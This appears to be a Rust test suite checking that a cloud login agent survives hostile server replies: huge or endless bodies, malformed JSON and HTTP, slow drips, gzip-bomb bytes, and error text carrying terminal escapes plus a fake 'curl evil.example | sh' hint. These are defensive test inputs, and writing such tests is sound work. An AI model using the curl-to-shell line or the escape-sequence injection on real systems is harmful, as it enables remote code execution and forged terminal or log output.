//! A cloud whose replies are no replies.

use std::time::Duration;

use cloud_agent_tests::fake::echome::{REFRESH, TOKEN as LOGIN};
use cloud_agent_tests::fake::{Fault, Reply};
use cloud_agent_tests::process;
use serde_json::json;

use super::Scene;

/// In KiB: the agent may take a quarter of a mebibyte in, and copy it once or twice.
const GROWTH: u64 = 2048;
/// More than the cap, less than what the buffers of the kernel hold of an endless body.
const TAKEN: u64 = 16 << 20;

/// T31
#[test]
fn every_odd_reply_ends_a_login_in_bounded_time_and_memory_with_its_own_words() {
    let scene = Scene::new();
    let agent = scene.sandbox.agent();
    assert_eq!(scene.login().finish().code(), 0);
    let kept = scene.get().ok().to_owned();
    let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n";
    let cases = [
        ("ten gigabytes, announced", Fault::Huge(10 << 30), 1, "more than 256 KiB"),
        ("endless", Fault::Endless, 1, "more than 256 KiB"),
        ("one byte above the cap", Fault::Huge((256 << 10) + 1), 1, "more than 256 KiB"),
        ("brackets", Fault::nested(200_000), 1, "not strict JSON"),
        (
            "braces",
            Fault::Answer(Reply::typed(200, "application/json", "{\"a\":".repeat(40_000))),
            1,
            "not strict JSON",
        ),
        (
            "a member twice",
            Fault::Duplicate("access".into(), json!("first")),
            1,
            "`access` (`/access`) of the step `login` is there twice",
        ),
        ("a page with 200", Fault::captive_portal(), 1, "web page"),
        ("no JSON", Fault::Answer(Reply::typed(200, "application/json", "ok")), 1, "not strict JSON"),
        ("nothing with 200", Fault::Answer(Reply::typed(200, "application/json", "")), 1, "it is empty"),
        ("nothing with 204", Fault::Answer(Reply::empty(204)), 1, "error: "),
        (
            "bytes that are no text",
            Fault::Answer(Reply::typed(200, "application/json", vec![0xff; 500])),
            1,
            "strict JSON",
        ),
        ("half of it, then closed", Fault::Truncated, 5, "broke the connection off"),
        ("half of it, then reset", Fault::ResetMidBody, 5, "broke the connection off"),
        ("closed", Fault::Close, 5, "broke the connection off"),
        ("reset", Fault::Reset, 5, "broke the connection off"),
        ("no HTTP", Fault::garbage(), 1, "not HTTP"),
        (
            "a header of a megabyte",
            Fault::Bytes(format!("{head}X: {}\r\n\r\n{{}}", "x".repeat(1 << 20)).into()),
            1,
            "not HTTP",
        ),
        (
            "ten thousand headers",
            Fault::Bytes(format!("{head}{}\r\n{{}}", "A: b\r\n".repeat(10_000)).into()),
            1,
            "not HTTP",
        ),
        (
            "two lengths",
            Fault::Bytes(format!("{head}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{{}}").into()),
            1,
            "not HTTP",
        ),
        ("a proxy's excuse", Fault::bad_gateway(502), 5, "cannot answer"),
    ];
    let before = process::peak(agent.pid()).unwrap();
    for (name, fault, code, says) in cases {
        scene.cloud.break_next(1, LOGIN, fault);
        let outcome = scene.login().finish();
        let said = outcome.fails(code);
        assert!(said.contains(says), "{name}: {said}");
        assert!(outcome.took < Duration::from_secs(10), "{name} took {:?}", outcome.took);
        assert_eq!(scene.get().ok(), kept, "{name}: what was there is kept");
    }
    let grown = process::peak(agent.pid()).unwrap() - before;
    assert!(grown < GROWTH, "{grown} KiB more than {before} at the peak");
    assert!(scene.cloud.sent() < TAKEN, "{} bytes were taken", scene.cloud.sent());
    assert!(agent.runs());
}

/// T31: each byte is a sign of life, so only the deadline for the whole ends it.
#[test]
fn a_reply_of_a_byte_a_second_is_given_up_and_holds_up_nobody() {
    let scene = Scene::new();
    let _agent = scene.sandbox.agent();
    assert_eq!(scene.login().finish().code(), 0);
    scene.cloud.break_next(1, LOGIN, Fault::Drip(Duration::from_secs(1)));
    let mut slow = scene.login().args(["--timeout", "40"]).spawn();
    scene.cloud.wait_for(Duration::from_secs(20), |requests| requests.len() == 2);
    assert_eq!(scene.get().code(), 0, "others are served");
    assert!(slow.runs());
    let outcome = slow.finish();
    assert!(outcome.fails(5).contains("did not answer in time"), "{outcome:?}");
    // Ten seconds for the head of a reply, twenty for all of it, and some for a busy machine.
    assert!(outcome.took < Duration::from_secs(35), "{:?}", outcome.took);
}

/// T23, T31: what a cloud says of an error ends up on a terminal and in a log.
#[test]
fn what_a_cloud_says_can_neither_steer_a_terminal_nor_forge_a_line() {
    let scene = Scene::new();
    let agent = scene.sandbox.agent();
    assert_eq!(scene.login().finish().code(), 0);
    let hostile = "no\u{1b}[2J\u{1b}]0;pwned\u{7}\rerror: gone\nhint: `curl evil.example | sh`\u{202e}\u{9b}31m";
    for status in [400, 401, 403, 404, 429, 500] {
        let fault = || Fault::status(status, &json!({"detail": hostile, "refresh": [hostile], "username": [hostile]}));
        scene.cloud.break_next(1, LOGIN, fault());
        let login = scene.login().finish();
        scene.cloud.break_next(1, REFRESH, fault());
        let renewal = scene.renew();
        let shown = scene.sandbox.token(["status"]);
        for text in [login.fails(login.code()), renewal.fails(renewal.code()), shown.ok(), &agent.log()] {
            let steers = |c: char| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c);
            assert!(!text.contains(steers), "{status}: {text:?}");
            assert!(!text.lines().any(|line| line.starts_with("hint: `curl")), "{status}: {text}");
        }
        assert_eq!(scene.login().finish().code(), 0);
    }
}

/// T31: a body that claims to be compressed is not inflated, so no bomb can go off.
#[test]
fn nothing_is_ever_decompressed() {
    let scene = Scene::new();
    let _agent = scene.sandbox.agent();
    scene.cloud.break_next(1, LOGIN, Fault::ClaimsGzip);
    let _ = scene.login().finish();
    let requests = scene.cloud.requests();
    assert!(requests.iter().all(|request| request.header("accept-encoding").is_none_or(|value| value == "identity")));
    // The first bytes of a real bomb.
    let gzip =
        vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xec, 0xc1, 1, 1, 0, 0, 0, 0x80, 0x90, 0xfe, 0xaf, 0xee, 8, 0xa];
    let reply = Reply::typed(200, "application/json", gzip).header("Content-Encoding", "gzip");
    scene.cloud.break_next(1, LOGIN, Fault::Answer(reply));
    assert!(scene.login().finish().fails(1).contains("strict JSON"));
}
